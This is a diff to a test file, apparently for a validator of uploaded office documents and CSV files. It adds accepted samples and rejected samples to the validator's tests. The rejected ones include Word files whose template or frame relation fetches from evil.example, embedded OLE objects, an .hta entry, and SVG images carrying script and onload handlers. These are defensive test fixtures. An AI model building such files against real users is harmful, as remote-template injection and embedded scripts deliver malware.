@@ -47,6 +47,18 @@ def locked(data: bytes) -> bytes:
     return bytes(changed)
 
 
+def template(target: str, kind: str = "attachedTemplate") -> bytes:
+    """A Word file with one relation of this kind to something outside of it."""
+    relation = (
+        f'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+        f'Target="{target}" TargetMode="External"/>'
+    )
+    settings = f"<Relationships>{relation}</Relationships>"
+    return archive(
+        "[Content_Types].xml", "word/document.xml", "word/_rels/settings.xml.rels", **{"settings.xml": settings}
+    )
+
+
 OPEN = "application/vnd.oasis.opendocument."
 DOCX = archive("[Content_Types].xml", "word/document.xml")
 PPTX = ("[Content_Types].xml", "ppt/presentation.xml", "ppt/media/image1.png", "ppt/media/image2.svg")
@@ -67,6 +79,11 @@ GOOD = {
     "a.odt": archive("content.xml", mimetype=f"{OPEN}text"),
     "a.ods": archive("content.xml", mimetype=f"{OPEN}spreadsheet"),
     "a.odp": archive("content.xml", mimetype=f"{OPEN}presentation"),
+    "chart.pptx": archive(*PPTX, "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", image2="<svg/>"),
+    "chart.ods": archive("content.xml", "Object 1/content.xml", mimetype=f"{OPEN}spreadsheet"),
+    "printer.xlsx": archive("[Content_Types].xml", "xl/workbook.xml", "xl/printerSettings/printerSettings1.bin"),
+    "office.docx": template("file:///\\\\srv\\templates\\letter.dotx"),
+    "links.docx": template("https://city.example/", kind="hyperlink"),
     "a.csv": "Städte;Einwohner\nGraz;302749\n".encode(),
     "excel.csv": "Straße;Länge;Preis\r\nHauptstraße;12,5;3 €\r\n".encode("cp1252"),
     "polish.csv": "Miasto\r\nŁódź;Šibenik\r\n".encode("cp1250"),
@@ -97,6 +114,13 @@ BAD = {
         archive("[Content_Types].xml", "word/document.xml", **{"[Content_Types]": "word.document.macroEnabled.main"}),
         "contains macros",
     ),
+    "object.docx": (
+        archive("[Content_Types].xml", "word/document.xml", "word/embeddings/oleObject1.bin"),
+        "contains a file of another program",
+    ),
+    "object.odt": (archive("content.xml", "Object 2", mimetype=f"{OPEN}text"), "contains a file of another program"),
+    "remote.docx": (template("https://evil.example/t.dotm"), "fetches a part of itself"),
+    "frame.docx": (template("HTTP://evil.example/", kind="frame"), "fetches a part of itself"),
     "program.docx": (archive("[Content_Types].xml", "word/document.xml", "payload.hta"), "is a program or contains"),
     "script.pptx": (archive(*PPTX, image2="<svg><script>alert(1)</script></svg>"), "contains HTML, SVG or a script"),
     "handler.pptx": (archive(*PPTX, image2="<svg onload='alert(1)'/>"), "contains HTML, SVG or a script"),
